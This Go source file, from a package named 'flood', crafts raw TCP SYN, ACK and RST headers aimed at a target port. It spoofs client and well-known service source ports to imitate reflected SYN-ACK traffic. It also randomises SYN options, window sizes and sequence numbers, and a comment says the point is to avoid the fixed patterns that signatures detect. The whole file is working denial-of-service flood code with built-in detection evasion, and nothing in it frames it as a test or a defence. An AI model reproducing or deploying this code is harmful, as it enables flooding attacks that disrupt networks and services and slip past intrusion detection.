package flood

import "encoding/binary"

// TCP's flags (RFC 9293).
const (
	flagFIN = 0x01
	flagSYN = 0x02
	flagRST = 0x04
	flagACK = 0x10
)

// Options of a SYN: their kinds, and lengths with kind and length.
const (
	optionEnd     = 0
	optionNothing = 1
	optionMSS     = 2
	optionScale   = 3
	optionSACK    = 4
	optionTime    = 8

	tcpHeader = 20
)

// segment returns what writes segments with these flags: from a service to the target if they are reflected, else from anybody.
func segment(flags byte, reflected bool) func(*Packets, []byte) int {
	return func(p *Packets, b []byte) int {
		r := p.random.Uint64()
		from := clientPort(r)
		if reflected {
			from = services[r>>16%uint64(len(services))]
		}
		options := 0
		if flags&flagSYN != 0 {
			options = copy(b[tcpHeader:], []byte{optionMSS, 4, 1460 >> 8, 1460 & 0xff})
		}
		return p.tcp(b, from, flags, uint16(r>>32), options)
	}
}

// services are the ports that reflect SYN-ACKs.
var services = [...]uint16{80, 443, 22, 25, 179, 8080, 3389, 53}

// syn is one system's: what never varies is what a signature finds.
func (p *Packets) syn(b []byte) int {
	options := copy(b[tcpHeader:], []byte{
		optionMSS, 4, 1460 >> 8, 1460 & 0xff, optionSACK, 2, optionNothing, optionNothing, optionNothing, optionScale, 3, 7,
	})
	return p.tcp(b, clientPort(p.random.Uint64()), flagSYN, 64240, options)
}

// variedSYN has some of the options, in an order as systems have it.
func (p *Packets) variedSYN(b []byte) int {
	r := p.random.Uint64()
	options := b[tcpHeader:tcpHeader]
	if r&1 != 0 {
		options = binary.BigEndian.AppendUint16(append(options, optionMSS, 4), 536+uint16(r>>16)%925)
	}
	if r&2 != 0 {
		options = append(options, optionSACK, 2)
	}
	if r&4 != 0 {
		options = binary.BigEndian.AppendUint64(append(options, optionTime, 10), r&0xffffffff<<32)
	}
	if r&8 != 0 {
		options = append(options, optionNothing, optionScale, 3, byte(r>>8)%15)
	}
	for len(options)%4 != 0 {
		options = append(options, optionEnd)
	}
	return p.tcp(b, clientPort(p.random.Uint64()), flagSYN, uint16(r>>32)|1, len(options))
}

// tcp writes a header around options that are there already, and returns its length.
func (p *Packets) tcp(b []byte, from uint16, flags byte, window uint16, options int) int {
	clear(b[:tcpHeader])
	binary.BigEndian.PutUint16(b, from)
	binary.BigEndian.PutUint16(b[2:], p.plan.Target.Port())
	r := p.random.Uint64()
	binary.BigEndian.PutUint32(b[4:], uint32(r))
	if flags&flagACK != 0 {
		binary.BigEndian.PutUint32(b[8:], uint32(r>>32))
	}
	b[12], b[13] = byte(tcpHeader+options)/4<<4, flags
	binary.BigEndian.PutUint16(b[14:], window)
	return tcpHeader + options
}

// clientPort is one of those that clients use.
func clientPort(r uint64) uint16 { return 1024 + uint16(r&0xffff)%(65535-1024) }
